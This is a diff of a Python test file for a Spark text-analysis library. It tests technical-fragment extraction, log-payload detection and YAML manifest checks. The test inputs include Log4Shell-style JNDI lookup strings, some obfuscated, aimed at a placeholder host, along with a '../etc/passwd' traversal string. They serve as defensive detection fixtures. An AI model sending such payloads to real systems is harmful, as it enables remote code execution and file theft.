@@ -11,8 +11,8 @@ from lodestone.functions import rules
 from lodestone.functions import text as t
 from lodestone.operators import graph as g
 from lodestone.operators import knowledge as k
-from lodestone.operators import pii
-from lodestone.sources import files
+from lodestone.operators import manifest, pii, technical
+from lodestone.sources import files, yaml
 from lodestone.streaming import buffers
 
 
@@ -110,17 +110,32 @@ def test_stream_folds(spark):
 
 
 def test_technical_content(spark):
-    import re
-
-    def plain(text):
-        seen = dict.fromkeys(m.group() for pattern in p.TECHNICAL for m in re.finditer(pattern, text, re.I | re.A) if m.group())
-        rank = []
-        for x in seen:
-            low = x.lower()
-            points = max([n for n, words in p.FOLDER_POINTS.items() if any(w in low for w in words.split())], default=0)
-            points += 10 * (x.startswith("/") and len(x) > 20) + 20 * any(e in low for e in (".php", ".jsp", ".asp")) + 30 * any(w in low for w in ("upload", "admin", "config"))
-            rank.append((-points, text.find(x), -len(x), x))
-        return "\n".join(r[3] for r in sorted(rank)[:5]) or None
-
-    texts = ["GET /admin/upload.php?x=1 from 10.0.0.7 CVE-2024-12345", "see https://a.example/js/app.js and ../etc/passwd", "no", "", "/a/very/long/path/of/config/files/x.jsp"]
-    assert values(spark, p.technical_parts, texts) == [plain(x) for x in texts] and values(spark, p.technical_parts, [None]) == [None]
+    texts = ["GET /admin/upload.php?x=1 from 10.0.0.7 CVE-2024-12345", "see https://a.example/js/app.js and ../etc/passwd", "no", "", "/a/very/long/path/of/config/files/x.jsp", "x ${jndi:ldap://h.io/a} y", "q ${${lower:j}${::-n}di:ldap://h.io/b}", "j-n-d-i:rmi://h.io/c", "a.io then /a.io", "j" + "." * 5000 + "://"]
+    got = values(spark, technical.technical_parts, [*texts, None])
+    assert got[0] == "/admin/upload.php?x=1\nGET /admin/upload.php?x=1\nupload.php\nadmin\n?x=1"
+    assert got[2:4] == [None, None] and got[-1] is None
+    assert got[4].split("\n") == [texts[4], "config", "x.jsp", ".jsp", "/a/very/"]
+    assert "${jndi:ldap://h.io/a}" in got[5].split("\n") and "${${lower:j}${::-n}di:ldap://h.io/b" in got[6] and "j-n-d-i:rmi://h.io/c" in got[7].split("\n")
+    # The place of a piece is that of the match that was seen first: the name counts where the name stands, not within the path before it.
+    assert got[8].split("\n")[0] == "a.io"
+
+
+def test_log_payloads(spark):
+    assert values(spark, rules.log_payload, ["a\nb", "|" * 6, "|" * 5, "x src=1.1.1.1", "CEF:0", "plain words", "", None]) == [True, True, False, True, True, False, False, False]
+
+
+def test_manifests(spark):
+    texts = {
+        "good": 'name: my-cart\nversion: "1.0"\nprompts:\n  qna: p/qna.txt\nknowledge:\n  dir: docs\n  breakdown: {a: 1}\nmodel:\n  recommended: m\nplugins:\n- name: x\n  path: x.py',
+        "bad": "name: My Cart\nversion: 1.0\nprompts:\n  qna: gone.txt\n  odd: p/qna.txt\nknowledge:\n  breakdown: {a: one}\nmodel:\n  other: m\nplugins:\n- name: x\n  path: gone.py\n- path: x.py", "empty": "a: 1", "wrong": "name: x\nversion: v1\nprompts: none\nknowledge:\n  dir: nowhere\nplugins: x",
+    }
+    m = spark.createDataFrame(list(texts.items()), "cartridge string, body string").select("cartridge", yaml.yaml_entries(F.encode("body", "UTF-8"))["entries"].alias("entries"))
+    files = spark.createDataFrame([(c, f) for c in texts for f in ("p/qna.txt", "docs/a/1.yaml", "x.py")], "cartridge string, file string")
+    got = {}
+    for r in manifest.problems(m, files).collect():
+        got.setdefault(r.cartridge, set()).add((r.check, r.level))
+    e, w = "error", "warning"
+    assert got == {
+        "bad": {("name", e), ("version", e), ("prompts.qna", e), ("prompts.odd", w), ("knowledge.dir", e), ("knowledge.breakdown", w), ("model.recommended", e), ("plugins[0].path", w), ("plugins[1].name", e)},
+        "empty": {("name", e), ("version", e), ("prompts", e)}, "wrong": {("name", e), ("version", e), ("prompts", e), ("knowledge.dir", e), ("plugins", e)} - {("version", e)},
+    }
